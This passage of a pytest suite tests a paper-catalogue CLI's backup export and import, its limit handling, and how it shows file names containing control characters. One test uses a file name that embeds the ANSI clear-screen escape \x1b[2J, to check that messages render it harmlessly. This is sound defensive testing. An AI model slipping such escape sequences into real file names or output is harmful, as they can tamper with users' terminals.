    run(capsys, "tag", ids[1], "later", "--data-dir", cli_store)
    code, out, _ = run(capsys, "export", "--user-data", "--data-dir", cli_store)
    assert code == 0 and json.loads(out)["count"] == 3
    backup = tmp_path / "backup.json"
    code, out, _ = run(capsys, "export", "--user-data", "-o", str(backup), "--data-dir", cli_store)
    assert code == 0 and out == f"backed up 3 records to {backup}\n"
    fresh = str(tmp_path / "fresh")
    run(capsys, "import", *map(str, seed_files), "--data-dir", fresh)  # only the seeds: one paper missing
    code, out, err = run(capsys, "import", str(backup), "--data-dir", fresh)
    assert code == 0, err
    assert out == (
        f"{backup}: user-data backup, 3 records: 3 restored, 0 unchanged; 1 is for a paper not in the store yet "
        "(kept for when it is imported)\n"
    )
    run(capsys, "import", str(SAFETY), "--data-dir", fresh)
    code, out, _ = run(capsys, "list", "--starred", "--json", "--data-dir", fresh)
    restored = {paper["id"]: paper for paper in json.loads(out)}
    assert set(restored) == set(ids)
    assert restored[ids[0]]["note"] == "keep me" and restored[ids[1]]["tags"] == ["later"]
    code, out, _ = run(capsys, "import", str(backup), "--json", "--data-dir", fresh)
    assert json.loads(out)["restored"] == [{"path": str(backup), "restored": 0, "unchanged": 3, "not_in_store": 0}]


def test_cli_export_limit_takes_the_first_papers_in_the_querys_order(
    cli_store: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys, "search", "decision:oral", "--limit", "0", "--json", "--data-dir", cli_store)
    ranked = [paper["id"] for paper in json.loads(out)]
    code, out, err = run(capsys, "export", "decision:oral", "--limit", "3", "--format", "json", "--data-dir", cli_store)
    assert code == 0 and err == ""
    assert [paper["id"] for paper in json.loads(out)] == ranked[:3]
    code, out, _ = run(capsys, "export", "decision:oral", "--limit", "0", "--format", "json", "--data-dir", cli_store)
    assert len(json.loads(out)) == len(ranked) == safety_orals()
    with pytest.raises(SystemExit) as refused:
        run(capsys, "export", "--limit", "-1", "--format", "json", "--data-dir", cli_store)
    assert refused.value.code == 2 and "--limit" in capsys.readouterr().err


def test_messages_show_a_file_names_newline_as_a_stand_in(
    cli_store: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "new\nline.csv"
    code, out, err = run(capsys, "export", "-o", str(target), "--data-dir", cli_store)
    assert code == 0, err
    assert out.count("\n") == 1 and re.match(r"wrote \d+ papers to ", out) is not None and "new␊line.csv (csv)" in out
    backup = tmp_path / "back\tup\x1b[2J.json"
    code, out, err = run(capsys, "export", "--user-data", "-o", str(backup), "--data-dir", cli_store)
    assert code == 0 and out.count("\n") == 1 and "back␉up␛[2J.json" in out
    code, out, err = run(capsys, "import", str(backup), "--data-dir", cli_store)
    assert code == 0 and "back␉up␛[2J.json: user-data backup" in out and "\t" not in out
    missing = tmp_path / "no\ndir" / "x.csv"
    code, out, err = run(capsys, "export", "-o", str(missing), "--data-dir", cli_store)
    assert code != 0 and err.count("\n") == 1 and "no␊dir" in err
